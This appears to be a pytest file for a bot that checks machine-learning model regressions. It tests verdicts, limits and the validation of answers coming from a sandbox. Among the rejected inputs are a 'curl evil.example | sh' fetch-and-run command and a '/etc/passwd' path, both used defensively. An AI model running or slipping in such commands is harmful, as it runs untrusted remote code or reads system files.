"""The check without any model: what applies, what is judged, what is believed."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from pydantic import TypeAdapter, ValidationError

from bot import sandbox
from bot.checks import regression
from bot.checks.regression import (
    PROBLEMS,
    Evidence,
    Problem,
    Settings,
    Standing,
    folders,
    pairs,
    rules,
    scoring,
    suites,
)
from bot.checks.regression.compared import MAX_POINTS, Compared, compare_models
from bot.checks.regression.suites import BadSuite, read_suites
from bot.exhibit import Histogram, IntervalPlot, Record, ScatterPlot, Table
from bot.finding import Level, Rule
from bot.sandbox import Protection, SandboxFailed
from lab import wire
from lab.protocol import (
    Failure,
    Gate,
    Generation,
    Item,
    ItemScore,
    Kind,
    ModelScores,
    PaceScores,
    Request,
    Response,
    Task,
    TaskScores,
)
from lab.speed.slowdown import judge_pace
from tests.fakes import BASE, FakeWorld

POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 4\n"
SUITE = '{"text": "a b c"}\n{"text": "d e f"}\n'


def settings(**values: Any) -> Settings:
    return Settings.model_validate_json(json.dumps(values))


PLAIN = settings(suite=[{"name": "heldout", "path": "eval/heldout.jsonl"}])
NAMED = settings(model="m", suite=[{"name": "heldout", "path": "eval/heldout.jsonl"}])


def world(base: dict[str, str], head: dict[str, str]) -> FakeWorld:
    return FakeWorld(base, head)


@pytest.mark.parametrize(
    ("path", "policy", "reason"),
    [
        ("m/model.safetensors", NAMED, ""),
        ("m/model.safetensors.dvc", NAMED, ""),
        ("m.dvc", NAMED, ""),
        ("dvc.lock", NAMED, ""),
        ("dvc.yaml", NAMED, ""),  # its `wdir` says which stage's output the model is
        ("m", NAMED, ""),  # a submodule or a link in the place of the folder
        ("a", settings(model="a/m"), ""),
        ("m/README.md", NAMED, ""),
        ("eval/heldout.jsonl", NAMED, ""),
        ("src/a.py", NAMED, "no file of a model changed"),
        ("other/model.safetensors", NAMED, "no file of a model changed"),
        ("other/dvc.lock", NAMED, "no file of a model changed"),
        ("mm/config.json", NAMED, "no file of a model changed"),
        ("any/model.safetensors", PLAIN, ""),
        ("any/config.json", PLAIN, ""),
        ("any/README.md", PLAIN, "no file of a model changed"),
        ("any/model.safetensors", settings(), ""),
        ("any/config.json", settings(), "the policy names no suite: add a JSONL file"),
        ("m/config.json", settings(model="m"), ""),
        ("config.json", settings(model="."), ""),
        ("setup.py", settings(model="."), "no file of a model changed"),
        ("dvc.lock", PLAIN, "no model file changed by name; set regression.model"),
    ],
)
def test_applies(path: str, policy: Settings, reason: str) -> None:
    found = regression.applies(world({path: "1"}, {path: "2"}).change(), policy)
    assert found.startswith(reason) if reason else found == ""


def collect(base: dict[str, str], head: dict[str, str], policy: Settings) -> Evidence:
    fake = world(base, head)
    return regression.collect(fake.change(), fake, policy)


def rules_of(evidence: Evidence, policy: Settings) -> list[tuple[str, Level]]:
    found = regression.judge(evidence, policy)
    assert all("\n" not in f.message and f.remedy for f in found)
    return [(f.rule.partition("/")[2], f.severity) for f in found]


MODEL = {"m/config.json": "{}", "m/model.safetensors": "old", "eval/heldout.jsonl": SUITE}


@pytest.mark.parametrize(
    ("head", "policy", "standing", "rules"),
    [
        ({"m/model.safetensors": "new"}, settings(), Standing.UNSCORED, [("no-suite", "warning")]),
        ({"m/README.md": "x"}, NAMED, Standing.SAME, [("identical", "note")]),
        ({"m/config.json": None, "m/model.safetensors": None}, NAMED, Standing.REMOVED,
         [("model-removed", "failure")]),
        ({"n/config.json": "{}", "n/model.safetensors": "x", "m/model.safetensors": "y"}, PLAIN,
         Standing.SEVERAL, [("several-models", "unknown")]),
        ({"n/config.json": "{}", "n/model.safetensors": "x", "m/model.safetensors": "y"},
         settings(), Standing.SEVERAL, [("several-models", "warning")]),
        ({"web/config.json": "{}"}, PLAIN, Standing.NONE, []),
        ({"gone/README.md": "x"}, settings(model="gone"), Standing.NONE, [("no-model", "warning")]),
        ({"eval/heldout.jsonl": "{}"}, NAMED, Standing.SAME,
         [("suite-edited", "warning"), ("identical", "note")]),
        ({"m/model.safetensors": POINTER.format("0" * 64)}, NAMED, Standing.UNKNOWN,
         [("weights-missing", "unknown")]),
        ({"m/model.safetensors": POINTER.format("zz")}, NAMED, Standing.UNKNOWN,
         [("broken-model", "unknown")]),
    ],
)  # fmt: skip
def test_what_a_change_does_to_the_model(
    head: dict[str, str | None],
    policy: Settings,
    standing: Standing,
    rules: list[tuple[str, str]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(pairs, "lacking", lambda: ())
    holds = ("network", "filesystem", "secrets", "memory", "time")
    monkeypatch.setattr(sandbox, "probe", lambda: Protection("x", holds))
    after = {k: v for k, v in {**MODEL, **head}.items() if v is not None}
    evidence = collect(MODEL, after, policy)
    assert evidence.standing is standing
    assert rules_of(evidence, policy) == rules
    assert "\n" not in regression.summary(evidence)
    adapter = TypeAdapter(Evidence)
    assert adapter.validate_json(adapter.dump_json(evidence)) == evidence


def test_missing_protection_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pairs, "lacking", lambda: ())
    monkeypatch.setattr(sandbox, "probe", lambda: Protection("plain", ("time",)))
    (finding,) = regression.judge(
        collect(MODEL, {**MODEL, "m/model.safetensors": "new"}, NAMED), NAMED
    )
    assert (finding.rule, finding.severity) == ("regression/unprotected", Level.UNKNOWN)
    assert "network, filesystem, secrets, memory (sandbox: plain)" in finding.message
    assert "bubblewrap" in finding.remedy
    assert "regression.require" in finding.remedy


def test_other_code_or_walls_do_not_reuse_scores(monkeypatch: pytest.MonkeyPatch) -> None:
    """A score kept from before a fix, or from behind fewer walls, is no answer now."""
    monkeypatch.setattr(pairs, "lacking", lambda: ())
    fake = world(MODEL, MODEL | {"m/model.safetensors": "new"})

    def maker(policy: Settings = NAMED) -> str:
        regression.collect(fake.change(), fake, policy)
        return fake.made[-1][0]

    found = [maker()]
    assert maker() == found[0]
    found.append(maker(NAMED.model_copy(update={"require": ()})))
    monkeypatch.setattr(pairs, "versions", lambda: (("torch", "0"),))
    found.append(maker())
    monkeypatch.setattr(pairs, "harness", lambda: "0" * 64)
    found.append(maker())
    assert len(set(found)) == 4


def test_missing_libraries_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pairs, "lacking", lambda: ("torch", "scipy"))
    (finding,) = regression.judge(
        collect(MODEL, {**MODEL, "m/model.safetensors": "new"}, NAMED), NAMED
    )
    assert (finding.rule, finding.severity) == ("regression/unequipped", Level.UNKNOWN)
    assert "torch, scipy" in finding.message


@pytest.mark.parametrize(
    ("files", "words"),
    [
        ({}, "is not there at the base commit"),
        ({"eval/heldout.jsonl/x": "1"}, "is not a regular file"),
        ({"eval/heldout.jsonl": "{}"}, "eval/heldout.jsonl:1: "),
        ({"eval/heldout.jsonl": ""}, "no items"),
        ({"eval/heldout.jsonl": POINTER.format("0" * 64)}, "is a Git LFS pointer"),
    ],
)
def test_bad_suite(files: dict[str, str], words: str) -> None:
    with pytest.raises(BadSuite) as caught:
        read_suites(world(files, {}), BASE, PLAIN.suite, 10)
    assert words in caught.value.message


def test_suite_digest_follows_content_and_limit() -> None:
    digests = {
        read_suites(world({"eval/heldout.jsonl": text}, {}), BASE, PLAIN.suite, limit).digest
        for text in (SUITE, SUITE + '{"text": "g"}\n')
        for limit in (1, 20)
    }
    assert len(digests) == 4


def test_detection_needs_configuration_and_weights() -> None:
    head = {
        "a/config.json": "{}", "a/model.safetensors.dvc": "x", "b/config.json": "{}",
        "c/model.safetensors": "x", "model.safetensors": "x", "config.json": "{}",
    }  # fmt: skip
    fake = world({}, head)
    assert folders.detect(fake.change(), fake) == ("", "a")


def test_a_flood_of_folders_hides_no_model() -> None:
    decoys = {f"a/{n}/config.json": "{}" for n in range(folders.MAX_CANDIDATES)}
    base = {"m/config.json": "{}", "m/model.safetensors": "old"}
    found = collect(base, {**base, "m/model.safetensors": "new", **decoys}, PLAIN)
    assert rules_of(found, PLAIN) == [("several-models", "unknown")]


def test_other_files_of_the_folder_are_not_the_model() -> None:
    fake = world(MODEL, {**MODEL, "m/optimizer.pt": "x", "m/sub/model.safetensors": "x"})
    change = fake.change()
    sides = [folders.model_files(fake, c, "m") for c in (change.base, change.head)]
    assert folders.identity(sides[0]) == folders.identity(sides[1])


@pytest.mark.parametrize(
    "bad",
    [
        {"suite": [{"name": "a", "path": "x"}, {"name": "a", "path": "y"}]},
        {"suite": [{"name": "a\n", "path": "x"}]},
        {"suite": [{"name": "a", "path": "/etc/passwd"}]},
        {"require": ["luck"]},
        {"minutes": 0},
        {"alpha": 1},
        {"device": "tpu"},
        {"sweet": 1},
    ],
)
def test_settings_refuse(bad: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        settings(**bad)


# Judging comparisons


def scores(values: list[float], *, right: str = "") -> TaskScores:
    correct = [None if not right else mark == "y" for mark in right or values]
    return TaskScores(
        "heldout",
        tuple(
            ItemScore(str(n), value, 4, 10, known)
            for n, (value, known) in enumerate(zip(values, correct, strict=True))
        ),
    )


FIXED = Gate(early=False)


def task_of(before: TaskScores, after: TaskScores, gate: Gate = FIXED) -> Compared:
    """Every other item is of group "odd"; the rest has none."""
    text = before.items[0].correct is None
    items = tuple(
        Item(item.id, "" if text else "p", ("x",) if text else ("x", "y"),
             fields=(("group", "odd"),) if n % 2 else ())
        for n, item in enumerate(before.items)
    )  # fmt: skip
    task = Task(before.task, items, Kind.TEXT if text else Kind.CHOICES)
    base, head = (
        replace(model_scores(name), tasks=(found,))
        for name, found in (("base", before), ("head", after))
    )
    [found] = compare_models([task], base, head, gate, (("torch", "2"),))
    return found


def evidence_of(
    base: list[float],
    head: list[float],
    rights: tuple[str, str] = ("", ""),
    gate: Gate = FIXED,
) -> Evidence:
    before, after = scores(base, right=rights[0]), scores(head, right=rights[1])
    task = task_of(before, after, gate)
    return Evidence(("m",), Standing.COMPARED, tasks=(task,), about="Tiny, 3 parameters")


N = 40
SPREAD = [10 + math.sin(n) for n in range(N)]
NOISE = [0.05 * math.cos(7 * n) for n in range(N)]


def shifted(by: float, noise: float = 1.0) -> list[float]:
    return [value + by + noise * e for value, e in zip(SPREAD, NOISE, strict=True)]


@pytest.mark.parametrize(
    ("head", "policy", "expected", "words"),
    [
        (shifted(0.5), {}, ("regressed", "failure"), "bits per byte worse (90 % interval"),
        (shifted(0.5), {"tolerance": 0.2}, ("within-tolerance", "warning"), "tolerance of 0.2"),
        (
            shifted(5),
            {"tolerance": 0.2},
            ("regressed", "failure"),
            "more than the tolerance of 0.2",
        ),
        (shifted(-0.5), {}, ("improved", "note"), "bits per byte better (90 % interval 0.0"),
        (shifted(0), {}, ("no-change", "note"), "smallest change this run could see: 0.00"),
        (SPREAD, {}, ("no-change", "note"), "all 40 items score exactly the same"),
        (
            shifted(0, 90),
            {"resolution": 0.01},
            ("inconclusive", "unknown"),
            "items more would tell",
        ),
        (shifted(0.5, 0), {}, ("inconclusive", "unknown"), "variance"),
    ],
)
def test_verdicts(
    head: list[float], policy: dict[str, Any], expected: tuple[str, str], words: str
) -> None:
    chosen_settings = settings(**policy)
    evidence = evidence_of(SPREAD, head, gate=replace(FIXED, **policy))
    assert rules_of(evidence, chosen_settings) == [expected]
    assert words in regression.judge(evidence, chosen_settings)[0].message
    adapter = TypeAdapter(Evidence)
    assert adapter.validate_json(adapter.dump_json(evidence)) == evidence


@pytest.mark.parametrize("task", ["heldout", "heldout/fr"])
def test_limits_of_a_suite_hold_for_all_its_tasks(task: str) -> None:
    limits = [{"metric": "bits_per_byte", "at_most": 1}]
    policy = settings(suite=[{"name": "heldout", "path": "eval/group.yaml", "limits": limits}])
    found = evidence_of(SPREAD, shifted(0.5))
    named = replace(found.tasks[0], decision=replace(found.tasks[0].decision, task=task))
    after = rules_of(replace(found, tasks=(named,)), policy)
    assert ("pre-existing", "note") in after
    assert after != rules_of(found, settings())


@pytest.mark.parametrize(
    ("head", "bound", "expected"),
    [
        (shifted(5), {"at_most": 2.0}, [("below-limit", "failure")]),
        (shifted(5), {"at_most": 1.0}, [("pre-existing", "note")]),
        (shifted(5), {"at_most": 2.5}, []),
        (shifted(-5), {"at_least": 1.0}, [("below-limit", "failure")]),
        (shifted(-5), {"at_least": 2.0}, [("pre-existing", "note")]),
        (shifted(-5), {"at_most": 1.0}, []),  # the change mends it
    ],
)
def test_a_limit_is_broken_by_who_passes_it(
    head: list[float], bound: dict[str, float], expected: list[tuple[str, str]]
) -> None:
    """Base needs about 1.44 bits for each byte, head 0.72 more or less."""
    limits = [{"metric": "bits_per_byte", **bound}]
    policy = settings(suite=[{"name": "heldout", "path": "x.jsonl", "limits": limits}])
    found = regression.judge(evidence_of(SPREAD, head), policy)[1:]
    assert [(f.rule.partition("/")[2], f.severity) for f in found] == expected
    if found:
        side, value = ("above", "2.1") if "at_most" in bound else ("below", "0.7")
        words = rf"heldout: bits_per_byte {value}\d+ is {side} the limit of \d; it was 1.4\d+"
        assert re.fullmatch(words, found[0].message)


def test_a_limit_on_a_metric_that_is_not_there_is_no_pass() -> None:
    limits = [{"metric": "acuracy", "at_least": 0.5}]
    policy = settings(suite=[{"name": "heldout", "path": "x.jsonl", "limits": limits}])
    found = regression.judge(evidence_of(SPREAD, shifted(0)), policy)[-1]
    assert (found.rule, found.severity) == ("regression/bad-suite", Level.UNKNOWN)
    assert "no metric 'acuracy'; this suite has bits_per_byte" in found.message


def test_right_answers_that_are_less_likely_are_named_so() -> None:
    evidence = evidence_of(SPREAD, shifted(0.5), ("y" * N, "y" * N))
    [found] = regression.judge(evidence, settings())
    assert (found.rule, found.severity) == ("regression/less-likely", Level.FAILURE)
    assert "accuracy 100.0% before, 100.0% now" in found.message


def test_a_worse_slice_is_named_beside_a_suite_that_holds() -> None:
    """The odd items lose what the others gain."""
    moves = [e + (0.5 if n % 2 else -0.5) for n, e in enumerate(NOISE * 2)]
    head = [value + move for value, move in zip(SPREAD * 2, moves, strict=True)]
    evidence = evidence_of(SPREAD * 2, head, gate=replace(FIXED, resolution=0.5))
    found = regression.judge(evidence, settings(resolution=0.5))
    assert [(f.rule, f.severity) for f in found] == [
        ("regression/no-change", Level.NOTE),
        ("regression/slice-worse", Level.WARNING),
    ]
    assert found[1].message.startswith("heldout, group=odd: worse by likelihood: +0.07")
    assert "on 40 items" in found[1].message


@pytest.mark.parametrize(
    ("prefill", "peak", "expected", "words"),
    [
        (1.5, (9, 9), [("slower", "warning")], "reading slower: +50.0%"),
        (1.0, (9, 9), [], ""),
        (0.5, (9, 9), [], ""),
        (1.0, (10, 15), [("slower", "warning")], "memory larger: +50.0%"),
        (1.0, (0, 0), [], ""),
    ],
)
def test_pace(
    prefill: float, peak: tuple[int, int], expected: list[tuple[str, str]], words: str
) -> None:
    pairs = tuple((1 + n / 900, prefill * (1 + (n * 7 % 30) / 900)) for n in range(30))
    pace = judge_pace(PaceScores(pairs, (), peak))
    evidence = Evidence(("m",), Standing.COMPARED, pace=pace)
    assert rules_of(evidence, settings()) == expected
    assert words in "".join(f.message for f in regression.judge(evidence, settings()))
    adapter = TypeAdapter(Evidence)
    assert adapter.validate_json(adapter.dump_json(evidence)) == evidence


def test_pace_that_nobody_can_tell_is_noted() -> None:
    pairs = tuple((1.0, math.exp(math.sin(n))) for n in range(30))
    evidence = Evidence(("m",), Standing.COMPARED, pace=judge_pace(PaceScores(pairs, ())))
    assert rules_of(evidence, settings()) == [("pace-unclear", "note")]


def test_another_tokenizer_is_noted() -> None:
    evidence = Evidence(("m",), Standing.COMPARED, tokenizer="3 tokens are new")
    assert rules_of(evidence, settings()) == [("tokenizer-changed", "note")]


def test_lost_answers_are_named_beside_an_unchanged_likelihood() -> None:
    evidence = evidence_of(SPREAD, shifted(0), ("y" * N, "n" * 12 + "y" * (N - 12)))
    assert rules_of(evidence, settings()) == [("answers-lost", "failure")]
    assert (
        "12 answers turned wrong and 0 turned right"
        in regression.judge(evidence, settings())[0].message
    )


def test_exhibits() -> None:
    shown = regression.exhibits(evidence_of(SPREAD, shifted(0.5)), settings())
    assert [type(e) for e in shown] == [
        Table,
        IntervalPlot,
        Table,
        ScatterPlot,
        Histogram,
        Table,
        *[Record] * 2,
    ]
    table, plot, *_, histogram, changed = shown[:-2]
    digests = {record.digest for record in shown if isinstance(record, Record)}
    assert len(digests) == 2
    assert isinstance(table, Table)
    assert isinstance(changed, Table)
    assert all(len(row) == len(t.columns) for t in (table, changed) for row in t.rows)
    assert len(changed.rows) == 10
    assert isinstance(plot, IntervalPlot)
    assert plot.intervals[0].low < plot.intervals[0].estimate < plot.intervals[0].high
    assert plot.intervals[0].verdict == "regressed"
    assert [i.label for i in plot.intervals] == ["heldout", "heldout, group=odd (n=20)"]
    assert {i.record for i in plot.intervals} <= digests
    assert isinstance(histogram, Histogram)
    assert sum(histogram.counts) == N
    assert len(histogram.edges) == len(histogram.counts) + 1
    assert regression.exhibits(Evidence((), Standing.NONE), settings()) == ()


def test_points_are_bounded() -> None:
    many = scores([float(n) for n in range(MAX_POINTS * 2 + 5)])
    kept = task_of(many, many)
    assert 0 < len(kept.points) <= MAX_POINTS


def test_every_problem_has_a_rule() -> None:
    assert {rule for _, rule in PROBLEMS} <= set(rules.RULES)
    defined = {v for v in vars(rules).values() if isinstance(v, Rule)}
    assert defined == set(rules.RULES)
    for _, rule in PROBLEMS:
        evidence = Evidence(("m",), Standing.UNKNOWN, problem=Problem(rule.id, "x", "y"))
        assert rules_of(evidence, settings()) == [(rule.id.partition("/")[2], Level.UNKNOWN)]


# Answers of the sandbox


ITEMS = (Item("1", "", ("abc",)), Item("2", "", ("déf",), cluster="c"))
REQUEST = Request((("base", "/b"), ("head", "/h")), (Task("heldout", ITEMS, Kind.TEXT),))
FOUND = (ItemScore("1", 1.5, 2, 3), ItemScore("2", 0.0, 1, 4, cluster="c"))


def model_scores(name: str) -> ModelScores:
    return ModelScores(
        name, "0" * 64, 100, "Tiny", "cpu", "float32", (TaskScores("heldout", FOUND),)
    )


RESPONSE = Response((model_scores("base"), model_scores("head")), None, (("torch", "2"),))


def test_sound_answer() -> None:
    assert scoring.checked(wire.dump_response(RESPONSE), REQUEST) == RESPONSE
    failure = Response(failure=Failure("head", "tensor 'x' is missing"))
    assert scoring.checked(wire.dump_response(failure), REQUEST) == failure


def edit(*path: str | int, to: object) -> Callable[[Any], None]:
    def change(document: Any) -> None:
        for key in path[:-1]:
            document = document[key]
        document[path[-1]] = to

    return change


ITEM = ("scores", 1, "tasks", 0, "items", 0)


@pytest.mark.parametrize(
    "change",
    [
        edit(*ITEM, "nll", to=-1.0),
        edit(*ITEM, "nll", to=1e9),
        edit(*ITEM, "nll", to="1"),
        edit(*ITEM, "nll", to=None),
        edit(*ITEM, "nll", to=True),
        edit(*ITEM, "bytes", to=4),
        edit(*ITEM, "bytes", to=0),
        edit(*ITEM, "tokens", to=0),
        edit(*ITEM, "tokens", to=10**400),
        edit(*ITEM, "id", to="2"),
        edit(*ITEM, "correct", to=True),
        edit(*ITEM, "cluster", to="x"),
        edit("scores", 1, "tasks", 0, "items", to=[]),
        edit("scores", 1, "tasks", 0, "task", to="other"),
        edit("scores", 1, "tasks", to=[]),
        edit("scores", 1, "model", to="base"),
        edit("scores", 1, "fingerprint", to="x" * 64),
        edit("scores", 1, "architecture", to="\x1b[2J"),
        edit("scores", 1, "architecture", to="x" * 101),
        edit("scores", 1, "dtype", to="a\nb"),
        edit("scores", 1, "parameters", to=0),
        edit("scores", 1, "notes", to=["run: curl evil.example | sh"]),
        edit("scores", 1, "tasks", 0, "usage", "peak", to=10**400),
        edit("scores", to=[]),
        edit("scores", to=None),
        edit("failure", to={"model": "head", "reason": "x"}),
        edit("versions", to=[["torch", "x" * 200]]),
        edit("versions", to=[["a", "b"]] * 30),
    ],
)
def test_unsound_answers(change: Callable[[Any], None]) -> None:
    document = json.loads(wire.dump_response(RESPONSE))
    change(document)
    with pytest.raises(SandboxFailed, match="unsound answer") as caught:
        scoring.checked(json.dumps(document).encode(), REQUEST)
    assert caught.value.message.isprintable()


def test_known_scores_stay_as_they_were() -> None:
    """The base's scores may be known; the sandbox also held the head."""
    base = RESPONSE.scores[0]
    request = replace(REQUEST, known=(base,))
    answer = wire.dump_response(RESPONSE)
    assert scoring.checked(answer, request) == RESPONSE
    [task] = base.tasks
    other = replace(task, items=(replace(task.items[0], nll=0.5), *task.items[1:]))
    lied = replace(RESPONSE, scores=(replace(base, tasks=(other,)), RESPONSE.scores[1]))
    with pytest.raises(SandboxFailed, match="other scores than were known"):
        scoring.checked(wire.dump_response(lied), request)


@pytest.mark.parametrize(
    "failure",
    [
        Failure("other", "x"),
        Failure("head", ""),
        Failure("head", "a\nb"),
        Failure("head", "x" * 2000),
    ],
)
def test_unsound_failures(failure: Failure) -> None:
    with pytest.raises(SandboxFailed, match="unsound answer"):
        scoring.checked(wire.dump_response(Response(failure=failure)), REQUEST)


def test_suites_beyond_the_wire_are_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wire, "REQUEST_LIMIT", 100)
    with pytest.raises(SandboxFailed, match="the suites come to") as caught:
        scoring.score(REQUEST, tmp_path, minutes=1, memory_gb=1, say=lambda _: None)
    assert "regression.limit" in caught.value.hint


def test_no_answer_may_be_larger_than_what_is_read() -> None:
    written = Task("g", ITEMS * 1_000, Kind.GENERATE, generation=Generation((), 4_096))
    assert scoring._bound(replace(REQUEST, tasks=(written,))) == wire.RESPONSE_LIMIT


def test_answer_that_grows_is_cut_off() -> None:
    """The bound follows the items asked for, and holds an honest answer of long ids."""
    items = tuple(
        Item("\u2603" * 190 + str(n), "", ("x",), cluster="\u2603" * 200) for n in range(50)
    )
    request = replace(REQUEST, tasks=(Task("heldout", items, Kind.TEXT),))
    found = tuple(ItemScore(i.id, 1 / 3, 80, 1, None, i.cluster, False) for i in items)
    models = tuple(
        replace(model_scores(n), tasks=(TaskScores("heldout", found),)) for n in ("base", "head")
    )
    honest = wire.dump_response(Response(models, None, ()))
    assert len(honest) < scoring._bound(request) < 2_000_000


def test_suites_module_reads_what_the_policy_names() -> None:
    fake = world({"eval/heldout.jsonl": SUITE}, {"eval/heldout.jsonl": '{"text": "easy"}'})
    (task,) = suites.read_suites(fake, BASE, PLAIN.suite, 10).tasks
    assert sorted(item.choices[0] for item in task.items) == ["a b c", "d e f"]


def test_compared_is_plain_data() -> None:
    before = scores(SPREAD)
    kept = task_of(before, before)
    assert TypeAdapter(Compared).validate_json(TypeAdapter(Compared).dump_json(kept)) == kept
